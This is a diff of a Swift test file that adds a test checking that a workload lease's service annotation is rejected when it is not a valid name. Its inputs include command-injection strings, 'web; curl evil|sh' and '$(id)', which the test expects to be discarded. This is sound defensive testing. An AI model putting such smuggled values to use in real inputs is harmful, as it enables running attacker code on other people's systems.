@@ -33,4 +33,13 @@ struct WorkloadLeaseTests {
     #expect(WorkloadLease.held(lease(renewed: 0, holder: ""), now: now) == nil)
     #expect(try #require(WorkloadLease.held(lease(renewed: nil), now: now)).isFresh == false)
   }
+
+  @Test("A Service that no Service can be called is not named, least of all in a command to be copied")
+  func service() throws {
+    for (text, service) in [("web-alt", "web-alt"), ("web; curl evil|sh", nil), ("", nil), ("$(id)", nil)] {
+      var lease = lease(renewed: 0)
+      lease.annotations = ["devtunnel.dev/service": text]
+      #expect(try #require(WorkloadLease.held(lease, now: now)).service == service)
+    }
+  }
 }
